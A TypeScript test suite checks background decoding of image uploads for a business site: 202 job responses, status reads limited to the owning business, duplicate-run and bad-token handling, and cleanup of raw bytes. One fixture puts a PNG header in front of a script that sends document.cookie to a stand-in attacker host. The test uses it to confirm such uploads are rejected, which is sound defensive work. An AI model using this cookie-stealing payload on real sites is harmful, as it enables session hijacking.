// Image uploads decoded in the background (issue 42): each upload function answers 202 with a job, and the job
// ends with the answer the function used to give (201 body, or the 400's message) through GET /api/uploads/:id.
// Only the business's own jobs are read; a second start decodes nothing twice; the raw bytes are gone after.
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import photosFn from '../../functions/site-photos.mts';
import imagesFn from '../../functions/images.mts';
import catalogueFn from '../../functions/shop-catalogue-photo.mts';
import listingImageFn from '../../functions/business-listing-image.mts';
import backgroundFn from '../../functions/image-upload-background.mts';
import { PHOTO_TYPE_MESSAGE } from '../../src/schemas/site-editor.ts';
import { UPLOAD_MESSAGES } from '../../src/schemas/uploads.ts';
import { IMAGE_UNREADABLE_MESSAGE } from '../../src/shared/images.ts';
import { BACKGROUND_TOKEN_HEADER } from '../../src/server/background.ts';
import { query } from '../../src/server/db/client.ts';
import { fileStore } from '../../src/server/storage/storage.ts';
import { originalsStore, uploadToken } from '../../src/server/uploads/image-uploads.ts';
import { createAccount, send } from './generation-helpers.ts';
import { holdBackground, readUpload, sendUpload, uploadHost, useUploadHost } from './upload-helpers.ts';

useUploadHost();

type Handler = (req: Request, context: never) => Promise<Response>;
const SCRIPT_PNG = new Uint8Array([
  ...[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  ...new TextEncoder().encode('<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
]);
const photo = () =>
  sharp({ create: { width: 640, height: 480, channels: 3, background: '#2a9d8f' } })
    .jpeg()
    .toBuffer();

const ENDPOINTS: {
  name: string;
  fn: Handler;
  path: string;
  field: string;
  result: (businessId: string) => unknown;
  refused: { message: string; fields: Record<string, string[]> };
}[] = [
  {
    name: 'site-photos',
    fn: photosFn,
    path: '/api/site/photos',
    field: 'photo',
    result: () => ({ photo: { width: 640, height: 480, widths: [480, 640], avif: true, alt: 'Our counter' } }),
    refused: { message: PHOTO_TYPE_MESSAGE, fields: { photo: [PHOTO_TYPE_MESSAGE] } },
  },
  {
    name: 'images (upload)',
    fn: imagesFn,
    path: '/api/images',
    field: 'photo',
    result: () => ({ item: { source: 'upload', alt: 'Our counter', width: 640, height: 480 } }),
    refused: { message: PHOTO_TYPE_MESSAGE, fields: { photo: [PHOTO_TYPE_MESSAGE] } },
  },
  {
    name: 'shop-catalogue-photo',
    fn: catalogueFn,
    path: '/api/shop/catalogue/photo',
    field: 'photo',
    result: (id) => ({ url: expect.stringMatching(new RegExp(`^/files/catalogue-photos/${id}/[0-9a-f]{20}\\.webp$`)) }),
    refused: { message: PHOTO_TYPE_MESSAGE, fields: { photo: [PHOTO_TYPE_MESSAGE] } },
  },
  {
    name: 'business-listing-image',
    fn: listingImageFn,
    path: '/api/business/listing-image',
    field: 'image',
    result: (id) => ({ url: expect.stringMatching(new RegExp(`^/files/listing-images/${id}/[0-9a-f-]{36}\\.webp$`)) }),
    refused: { message: `image: ${IMAGE_UNREADABLE_MESSAGE}`, fields: { image: [IMAGE_UNREADABLE_MESSAGE] } },
  },
];

const formWith = (field: string, bytes: Uint8Array) => {
  const body = new FormData();
  body.set(field, new File([new Uint8Array(bytes)], 'upload.jpg', { type: 'image/jpeg' }));
  body.set('alt', 'Our counter');
  return body;
};
const rawKeys = (businessId: string) => originalsStore().list(`${businessId}/`);
const startRun = (id: string, token = uploadToken(id)) =>
  backgroundFn(
    new Request('http://localhost/.netlify/functions/image-upload-background', {
      method: 'POST',
      headers: { [BACKGROUND_TOKEN_HEADER]: token, 'content-type': 'application/json' },
      body: JSON.stringify({ upload_id: id }),
    }),
  );
/** Starts an upload while background runs wait, so its 'processing' state can be seen; `release` lets them go. */
async function startHeld(endpoint: (typeof ENDPOINTS)[number], cookie: string, bytes: Uint8Array) {
  let release: () => void = () => undefined;
  holdBackground(new Promise<void>((resolve) => (release = resolve)));
  const { origin, settled } = await uploadHost();
  const res = await send(endpoint.fn, `${origin}${endpoint.path}`, {
    method: 'POST',
    body: formWith(endpoint.field, bytes),
    headers: { cookie },
  });
  return { res, finish: async () => (release(), await settled(), holdBackground(Promise.resolve())) };
}

describe.each(ENDPOINTS)('$name decodes in the background', (endpoint) => {
  it('answers 202 processing, keeps the raw bytes privately, then is ready with the old answer', async () => {
    const owner = await createAccount();
    const held = await startHeld(endpoint, owner.cookie, await photo());
    expect(held.res.status).toBe(202);
    expect(held.res.body).toEqual({ upload: { id: expect.any(String), status: 'processing' } });
    const id = held.res.body.upload.id as string;
    expect((await readUpload(id, owner.cookie)).body).toEqual({ upload: { id, status: 'processing' } });
    expect(await rawKeys(owner.id)).toEqual([`${owner.id}/${id}`]);

    await held.finish();
    const read = await readUpload(id, owner.cookie);
    expect(read.body).toMatchObject({ upload: { id, status: 'ready', result: endpoint.result(owner.id) } });
    expect(await rawKeys(owner.id)).toEqual([]);
  });

  it('refuses a PNG signature followed by a script with the old message, through the status read', async () => {
    const owner = await createAccount();
    const res = await sendUpload(endpoint.fn, endpoint.path, {
      body: formWith(endpoint.field, SCRIPT_PNG),
      headers: { cookie: owner.cookie },
    });
    expect(res.uploadId).toBeDefined();
    expect(res).toMatchObject({ status: 400, body: { error: { code: 'validation_failed', ...endpoint.refused } } });
    expect(await rawKeys(owner.id)).toEqual([]);
  });
});

describe('GET /api/uploads/:id and the background run', () => {
  const listing = ENDPOINTS[3]!;

  it("answers 404 for another business's job and for an id that is not one", async () => {
    const owner = await createAccount();
    const other = await createAccount();
    const { uploadId } = await sendUpload(listing.fn, listing.path, {
      body: formWith('image', await photo()),
      headers: { cookie: owner.cookie },
    });
    expect((await readUpload(uploadId!, owner.cookie)).status).toBe(200);
    const theirs = await readUpload(uploadId!, other.cookie);
    expect(theirs).toMatchObject({ status: 404, body: { error: { message: UPLOAD_MESSAGES.notFound } } });
    expect((await readUpload('not-an-id', owner.cookie)).status).toBe(404);
    // UUID-shaped but not a UUID: PostgreSQL would refuse it in the query (a 500 the fuzz test found).
    expect((await readUpload(`a${'-'.repeat(35)}`, owner.cookie)).status).toBe(404);
    expect((await readUpload(uploadId!, '')).status).toBe(401);
  });

  it('decodes once when started twice more at once; a wrong token starts nothing', async () => {
    const owner = await createAccount();
    const held = await startHeld(listing, owner.cookie, await photo());
    const id = held.res.body.upload.id as string;
    expect((await startRun(id, 'f'.repeat(64))).status).toBe(403);
    expect((await readUpload(id, owner.cookie)).body.upload.status).toBe('processing');
    const runs = await Promise.all([startRun(id), startRun(id)]);
    expect(runs.map((r) => r.status)).toEqual([202, 202]);
    await held.finish(); // the host's own run comes last and finds the job claimed
    const { body } = await readUpload(id, owner.cookie);
    expect(body.upload.status).toBe('ready');
    const stored = await fileStore('uploads').list(`listing-images/${owner.id}/`);
    expect(stored).toEqual([body.upload.result.url.slice('/files/'.length)]);
    expect(await rawKeys(owner.id)).toEqual([]);
  });

  it('shows a job its run never finished as failed after two minutes, asking to try again', async () => {
    const owner = await createAccount();
    const held = await startHeld(listing, owner.cookie, await photo());
    const id = held.res.body.upload.id as string;
    await query(`UPDATE image_uploads SET created_at = now() - interval '3 minutes' WHERE id = $1`, [id]);
    expect((await readUpload(id, owner.cookie)).body).toEqual({
      upload: { id, status: 'failed', error: { code: 'upload_stopped', message: UPLOAD_MESSAGES.stopped } },
    });
    await held.finish();
  });

  it('answers 503 and keeps nothing when the background function cannot be started', async () => {
    const owner = await createAccount();
    const res = await send(listing.fn, `http://127.0.0.1:9${listing.path}`, {
      method: 'POST',
      body: formWith('image', await photo()),
      headers: { cookie: owner.cookie },
    });
    expect(res).toMatchObject({ status: 503, body: { error: { message: UPLOAD_MESSAGES.notStarted } } });
    expect(await rawKeys(owner.id)).toEqual([]);
    const [job] = await query<{ status: string }>(`SELECT status FROM image_uploads WHERE business_id = $1`, [
      owner.id,
    ]);
    expect(job?.status).toBe('failed');
  });
});
